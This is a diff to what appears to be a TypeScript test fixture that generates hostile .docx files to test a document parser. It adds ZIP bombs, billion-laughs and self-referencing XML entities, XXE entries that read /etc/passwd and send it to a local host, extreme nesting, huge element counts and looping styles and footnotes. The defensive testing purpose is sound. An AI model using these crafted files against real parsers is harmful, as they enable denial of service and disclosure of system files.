@@ -12,6 +12,10 @@ const zips = byMechanism('ZIP bomb in .docx', [
   { name: 'document-of-1-gigabyte-that-claims-4-kilobytes.docx', make: () => withPacked(rawDeflateBomb(megabyteOf(' '), 1024), 4096), short: true },
   { name: 'media-of-3-gigabytes.docx', make: () => writeDocx(documentXml(HONEST), [{ path: 'word/media/image1.png', data: rawDeflateBomb(megabyteOf('\0'), 3072), method: 8, claimedSize: 3 * 1024 ** 3 }]) },
   { name: 'styles-of-500-megabytes.docx', make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: rawDeflateBomb(megabyteOf('<w:style/>'), 500), method: 8, claimedSize: 1000 }]) },
+  ...['numbering', 'footnotes', 'theme', 'settings'].map((part) => ({ name: `${part}-of-500-megabytes.docx`, make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: part, target: `${part}.xml` }]), { path: `word/${part}.xml`, data: rawDeflateBomb(megabyteOf('<w:num/>'), 500), method: 8, claimedSize: 2000 }]) })),
+  { name: 'content-types-of-1-gigabyte.docx', make: () => writeZip([{ path: '[Content_Types].xml', data: rawDeflateBomb(megabyteOf('<Default/>'), 1024), method: 8, claimedSize: 500 }, ...PACKAGE.slice(1), { path: DOCUMENT, data: documentXml(HONEST) }]) },
+  { name: 'relationships-of-500-megabytes.docx', make: () => writeDocx(documentXml(HONEST), [{ path: 'word/_rels/document.xml.rels', data: rawDeflateBomb(megabyteOf('<Relationship Id="a"/>'), 500), method: 8, claimedSize: 500 }]) },
+  { name: 'document-of-300-megabytes-of-words.docx', make: () => withPacked(rawDeflateBomb(megabyteOf('<w:p><w:r><w:t>mitosis</w:t></w:r></w:p>'), 300), 300 * 1024 * 1024) },
 ])
 
 const archives = byMechanism('ZIP archive of impossible entries', [
@@ -24,6 +28,7 @@ const archives = byMechanism('ZIP archive of impossible entries', [
   { name: 'comment-full-of-directory-ends.docx', make: () => writeZip([...PACKAGE, { path: DOCUMENT, data: documentXml(HONEST) }], { comment: Buffer.concat(Array.from({ length: 2900 }, () => Buffer.from('504b050600000000ffffffffffffffffffffffff0000', 'hex'))) }) },
   { name: 'claims-65535-entries.docx', make: () => writeZip([...PACKAGE, { path: DOCUMENT, data: documentXml(HONEST) }], { claimedEntries: 65_535 }) },
   { name: 'no-document-inside.docx', make: () => writeZip(PACKAGE) },
+  { name: 'directory-beyond-the-end.docx', make: () => { const file = writeDocx(documentXml(HONEST)); file.writeUInt32LE(0x7fffffff, file.length - 6); return file } },
 ])
 
 const entities = byMechanism('XML entities', [
@@ -31,6 +36,12 @@ const entities = byMechanism('XML entities', [
   { name: 'one-long-entity-100000-times.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [<!ENTITY a "${'a'.repeat(100_000)}">]><w:document ${NAMESPACES}><w:body>${paragraph('&a;'.repeat(100_000))}</w:body></w:document>`) },
   { name: 'entity-from-a-file.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ${NAMESPACES}><w:body>${HONEST}${paragraph('&x;')}</w:body></w:document>`), bait: /root:x:0/, short: true },
   { name: 'picture-and-template-from-a-file.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId1"/></w:drawing></w:r></w:p><w:altChunk r:id="rId2"/>`), [documentRelationships([{ type: 'image', target: 'file:///etc/passwd', external: true }, { type: 'aFChunk', target: 'file:///etc/passwd', external: true }, { type: 'attachedTemplate', target: 'http://127.0.0.1:9/evil.dotm', external: true }])]), bait: /root:x:0/ },
+  { name: 'laughs-in-an-attribute.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [${laughs()}]><w:document ${NAMESPACES}><w:body><w:p><w:pPr><w:pStyle w:val="&lol9;"/></w:pPr></w:p>${HONEST}</w:body></w:document>`) },
+  { name: 'laughs-in-the-styles.docx', make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<!DOCTYPE w:styles [${laughs()}]><w:styles ${NAMESPACES}>&lol9;</w:styles>` }]) },
+  { name: 'entity-that-names-itself.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [<!ENTITY a "&b;"><!ENTITY b "&a;&a;">]><w:document ${NAMESPACES}><w:body>${HONEST}${paragraph('&a;')}</w:body></w:document>`) },
+  { name: 'parameter-entities-from-outside.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % g "<!ENTITY x SYSTEM 'http://127.0.0.1:9/?%f;'>">%g;%f;]><w:document ${NAMESPACES}><w:body>${HONEST}${paragraph('&x;')}</w:body></w:document>`), bait: /root:x:0/ },
+  { name: 'doctype-of-5-megabytes.docx', make: () => writeDocx(`${XML}<!DOCTYPE w:document [${Array.from({ length: 120_000 }, (_, index) => `<!ENTITY e${index} "some words of it">`).join('')}]><w:document ${NAMESPACES}><w:body>${HONEST}${paragraph('&e7;')}</w:body></w:document>`) },
+  { name: 'characters-that-xml-forbids.docx', make: () => writeDocx(documentXml(`${HONEST}${paragraph('&#0;&#x1F;&#xFFFFFFFF;&#xD800;&#99999999999;')}`)) },
 ])
 
 const depths = byMechanism('XML nesting', [
@@ -42,6 +53,8 @@ const depths = byMechanism('XML nesting', [
   { name: 'text-boxes-and-fallbacks-16-times.docx', make: () => writeDocx(documentXml(doublingFallbacks(16))) },
   { name: 'elements-never-closed.docx', make: () => writeDocx(`${XML}<w:document ${NAMESPACES}><w:body>${'<w:p><w:r><w:t>open'.repeat(200_000)}`) },
   { name: 'quotes-within-quotes.docx', make: () => writeDocx(documentXml(nested('<w:p><w:pPr><w:pStyle w:val="Quote"/></w:pPr><w:ins><w:hyperlink>', paragraph('said'), '</w:hyperlink></w:ins></w:p>', 8000))) },
+  { name: 'matrix-of-matrices-5000-deep.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p><m:oMath>${nested('<m:m><m:mr><m:e>', '<m:r><m:t>1</m:t></m:r>', '</m:e></m:mr></m:m>', 5000)}</m:oMath></w:p>`)) },
+  { name: 'insertions-and-links-100000-deep.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p>${nested('<w:ins><w:hyperlink>', '<w:r><w:t>deep</w:t></w:r>', '</w:hyperlink></w:ins>', 50_000)}</w:p>`)) },
 ])
 
 const amounts = byMechanism('Huge Word document', [
@@ -52,6 +65,9 @@ const amounts = byMechanism('Huge Word document', [
   { name: 'element-of-200000-attributes.docx', make: () => writeDocx(documentXml(`<w:p ${Array.from({ length: 200_000 }, (_, index) => `a${index}="x"`).join(' ')}>${HONEST}</w:p>`)) },
   { name: '30000-footnotes.docx', make: () => manyFootnotes(30_000) },
   { name: 'table-that-spans-2e9-columns.docx', make: () => writeDocx(documentXml(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge w:val="restart"/></w:tcPr>${paragraph('wide')}</w:tc></w:tr><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge/></w:tcPr>${paragraph('wide')}</w:tc></w:tr></w:tbl>${HONEST}`)) },
+  { name: '50000-equations.docx', make: () => writeDocx(documentXml(Array.from({ length: 50_000 }, (_, index) => `<w:p><m:oMath><m:sSup><m:e><m:r><m:t>x</m:t></m:r></m:e><m:sup><m:r><m:t>${index}</m:t></m:r></m:sup></m:sSup></m:oMath></w:p>`).join(''))) },
+  { name: '60000-headings.docx', make: () => writeDocx(documentXml(Array.from({ length: 60_000 }, (_, index) => `<w:p><w:pPr><w:outlineLvl w:val="${index % 9}"/></w:pPr><w:r><w:t>Heading ${index}</w:t></w:r></w:p>`).join(''))) },
+  { name: '40000-styles.docx', make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}>${Array.from({ length: 40_000 }, (_, index) => style(`S${index}`, `S${index + 1}`)).join('')}</w:styles>` }]) },
 ])
 
 const loops = byMechanism('Word styles and numberings that loop', [
@@ -59,6 +75,12 @@ const loops = byMechanism('Word styles and numberings that loop', [
   { name: 'numbering-style-is-itself.docx', make: () => writeDocx(documentXml(`<w:p><w:pPr><w:numPr><w:ilvl w:val="999999"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>numbered</w:t></w:r></w:p>${HONEST}`), [documentRelationships([{ type: 'numbering', target: 'numbering.xml' }, { type: 'styles', target: 'styles.xml' }]), { path: 'word/numbering.xml', data: `${XML}<w:numbering ${NAMESPACES}><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="N"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>` }, { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}><w:style w:type="numbering" w:styleId="N"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style></w:styles>` }]) },
   { name: 'footnote-in-its-own-text.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>`), [documentRelationships([{ type: 'footnotes', target: 'footnotes.xml' }]), { path: 'word/footnotes.xml', data: `${XML}<w:footnotes ${NAMESPACES}><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/><w:t>again</w:t></w:r></w:p></w:footnote></w:footnotes>` }]) },
   { name: 'names-of-object-prototypes.docx', make: () => writeDocx(documentXml(`<w:p><w:pPr><w:pStyle w:val="__proto__"/><w:numPr><w:ilvl w:val="constructor"/><w:numId w:val="__proto__"/></w:numPr></w:pPr><w:r><w:t>named</w:t></w:r></w:p>${HONEST}`), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}>${style('__proto__', 'constructor')}${style('constructor', '__proto__')}</w:styles>` }]) },
+  { name: 'style-based-on-itself-directly.docx', make: () => writeDocx(documentXml(`<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>styled</w:t></w:r></w:p>${HONEST}`), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}>${style('A', 'A')}</w:styles>` }]) },
+  { name: 'styles-in-a-ring-of-5000.docx', make: () => writeDocx(documentXml(`<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>styled</w:t></w:r></w:p>${HONEST}`), [documentRelationships([{ type: 'styles', target: 'styles.xml' }]), { path: 'word/styles.xml', data: `${XML}<w:styles ${NAMESPACES}>${Array.from({ length: 5000 }, (_, index) => style(`S${index}`, `S${(index + 1) % 5000}`)).join('')}</w:styles>` }]) },
+  { name: 'two-footnotes-in-each-other.docx', make: () => writeDocx(documentXml(`${HONEST}<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>`), [documentRelationships([{ type: 'footnotes', target: 'footnotes.xml' }]), { path: 'word/footnotes.xml', data: `${XML}<w:footnotes ${NAMESPACES}>${[1, 2].map((id) => `<w:footnote w:id="${id}"><w:p><w:r><w:footnoteReference w:id="${3 - id}"/><w:t>note</w:t></w:r></w:p></w:footnote>`).join('')}</w:footnotes>` }]) },
+  { name: 'list-level-named-1e300-and-minus-5.docx', make: () => writeDocx(documentXml(`${['1e300', '-5', '', 'NaN'].map((level) => `<w:p><w:pPr><w:outlineLvl w:val="${level}"/><w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="${level}"/></w:numPr></w:pPr><w:r><w:t>numbered</w:t></w:r></w:p>`).join('')}${HONEST}`)) },
+  { name: 'relationships-to-the-document-itself.docx', make: () => writeDocx(documentXml(HONEST), [documentRelationships([{ type: 'styles', target: 'document.xml' }, { type: 'numbering', target: 'document.xml' }, { type: 'footnotes', target: 'document.xml' }, { type: 'aFChunk', target: 'document.xml' }])]) },
+  { name: 'chunk-that-is-the-document.docx', make: () => writeDocx(documentXml(`${HONEST}<w:altChunk r:id="rId1"/><w:altChunk r:id="rId1"/>`), [documentRelationships([{ type: 'aFChunk', target: 'document.xml' }])]) },
 ])
 
 export const docxBombs: readonly HostileFile[] = [...zips, ...archives, ...entities, ...depths, ...amounts, ...loops]
